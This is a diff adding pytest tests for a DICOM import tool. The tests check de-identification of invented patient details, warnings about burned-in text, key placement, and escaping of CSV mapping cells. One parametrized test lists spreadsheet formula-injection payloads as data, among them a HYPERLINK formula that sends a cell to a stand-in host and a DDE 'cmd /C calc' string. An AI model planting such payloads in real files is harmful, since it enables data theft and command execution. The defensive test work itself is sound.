@@ -20,8 +20,10 @@ from mtinet.cohort import Cohort
 from mtinet.config import resolve, resolve_simulation
 from mtinet.errors import UnusableError, UserError
 from mtinet.volume import read_nifti
+from mtinet.workflows.imports.mapping import MappingRow, read_mapping, write_mapping
 from mtinet.workflows.ingest import IngestOptions, ingest
 from mtinet.workflows.prepare import prepare_cohort
+from mtinet.workflows.qc import qc
 from mtinet.workflows.simulate import simulate
 
 FAST = {"sites": ["A", "B", "C"], "spacing_mm": [6.0, 6.0, 5.0]}
@@ -176,6 +178,65 @@ def test_a_name_in_a_description_does_not_get_through(scanned, tmp_path):
     assert any("broken.dcm" in f.case for f in outcome.findings)
 
 
+@pytest.fixture(scope="module")
+def told(thick_toy, toy_scanner, tmp_path_factory):
+    """What an import says on disk of a study with everybody in its headers, descriptions and names of files."""
+    place = tmp_path_factory.mktemp("told")
+    toy_scanner(thick_toy(31), place / "export" / "SCHAEFER_ANNA_19560312")
+    said = ["Krause Grünwald 12.Mrz.1956 MRNORD7", "Lindqvist SCHAEFER 22JUL2023 ST-4711"]
+    for path in (place / "export").rglob("*.dcm"):
+        dataset = pydicom.dcmread(path)
+        dataset.SpecificCharacterSet = "ISO_IR 192"
+        dataset.PatientName, dataset.PatientBirthName = "Schäfer^Anna", "Grünwald^Anna"
+        dataset.OtherPatientNames, dataset.OperatorsName = "Petrovic^Ana", "Lindqvist"
+        dataset.ReferringPhysicianName = "Krause^Ute^^Dr."
+        dataset.StationName, dataset.StudyID = "MRNORD7", "ST-4711"
+        dataset.PatientBirthDate, dataset.SeriesDate = "19560312", "20230722"
+        if dataset.Modality == "MR":
+            dataset.BurnedInAnnotation = "YES" if "pv" in dataset.SeriesDescription else "NO"
+            dataset.SeriesDescription = f"{dataset.SeriesDescription[:25]} {said[dataset.SeriesNumber % 2]}"
+        dataset.save_as(path)
+    # a PACS often writes names without a suffix
+    (place / "export" / "SCHAEFER_ANNA_SCAN").write_bytes(path.read_bytes()[:200])
+    (place / "export" / "Schaefer Anna").write_bytes(path.read_bytes()[:400])
+    with zipfile.ZipFile(place / "export" / "Mueller_Hans", "w", zipfile.ZIP_DEFLATED) as bomb:
+        bomb.writestr("zeros.dcm", bytes(4 << 20))
+    phases = place / "phases.json"
+    phases.write_text(json.dumps({"schema": 1, "Schaefer": {"delayed": None}}))
+    outcome = bring_in(place / "export", place / "out", phases=phases)
+    qc(outcome.cohort.folder, workers=1)
+    return outcome, {n: (outcome.cohort.folder / n).read_text() for n in ("import.json", "qc.html")}
+
+
+def test_nobody_whom_the_headers_name_stays_in_descriptions(told):
+    _, texts = told
+    for name, text in texts.items():
+        spelled = text.encode().decode("unicode_escape") if name.endswith("json") else text
+        found = re.findall("(?i)krause|lindqvist|gr.nwald|schaefer|12.mrz|22jul|mrnord7|st-4711", spelled)
+        assert not found, name
+    (study,) = json.loads(texts["import.json"])["studies"].values()
+    assert all("[removed]" in phase["description"] for phase in study["phases"].values() if phase)
+
+
+def test_text_in_the_images_is_warned_of(told):
+    outcome, texts = told
+    (said,) = [f for f in outcome.findings if f.id == "burned-in"]
+    assert (said.severity, said.case) == ("warning", outcome.cohort.studies[0].study_id)
+    assert said.meaning.startswith("portal_venous: ")
+    assert all(said.meaning in text for text in texts.values())
+
+
+def test_files_and_entries_are_named_on_screen_and_not_on_disk(told):
+    outcome, texts = told
+    said = {f.case for f in outcome.findings if f.case.startswith(("SCHAEFER", "Schaefer", "Mueller"))}
+    assert len(said) == 3
+    assert any(f.id == "phases-without-study" and "Schaefer" in f.meaning for f in outcome.findings)
+    assert not [name for name, text in texts.items() if re.search("(?i)schaefer|mueller", text)]
+    stored = json.loads(texts["import.json"])["findings"]
+    assert len([f for f in stored if f["case"].startswith("file ")]) == 3
+    assert {"phases-without-study"} <= {f["id"] for f in stored}
+
+
 @pytest.mark.slow
 def test_a_later_import_from_a_zip_gives_the_patient_the_same_id(scanned, imported, tmp_path):
     place = next((scanned / "dicom").glob("p*"))
@@ -286,6 +347,38 @@ def test_folders_and_tables_of_others_are_not_touched(imported, scanned, tmp_pat
         bring_in(scanned / "dicom", edited)
     with pytest.raises(UserError, match="inside the cohort"):
         bring_in(scanned / "dicom", tmp_path / "new", mapping=tmp_path / "new" / "who.csv")
+
+
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [
+        ('=HYPERLINK("http://x/?"&A1,"x")', '\'=HYPERLINK("http://x/?"&A1,"x")'),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("'=1+1", "''=1+1"),
+        # what is no formula is found as it is by whoever reads the table with another program
+        ("-17", "-17"),
+        ("-", "-"),
+        ("'t Hooft^Jan", "'t Hooft^Jan"),
+        ("O'Brien^Pat", "O'Brien^Pat"),
+    ],
+)
+def test_no_cell_of_the_mapping_is_computed_and_each_is_read_back(name, cell, tmp_path):
+    row = MappingRow("study-1", "patient-1", name, name, "1.2", "20240131", "A-1")
+    write_mapping(tmp_path / "who.csv", [row])
+    with (tmp_path / "who.csv").open(newline="", encoding="utf-8") as lines:
+        (stored,) = csv.DictReader(lines)
+    assert (stored["patient_name"], stored["accession"]) == (cell, "A-1")
+    assert read_mapping(tmp_path / "who.csv", "") == {"study-1": row}
+
+
+def test_the_key_is_not_made_in_what_is_given_away(tmp_path):
+    (tmp_path / "export").mkdir()
+    (tmp_path / "link").symlink_to(tmp_path / "new")
+    for place in ("new", "link"):
+        with pytest.raises(UserError, match=r"lies inside .*--key"):
+            ingest(tmp_path / "export", tmp_path / "new", IngestOptions(key=tmp_path / place / "sub" / "key"))
+    assert not (tmp_path / "new").exists()
 
 
 def contents(folder):
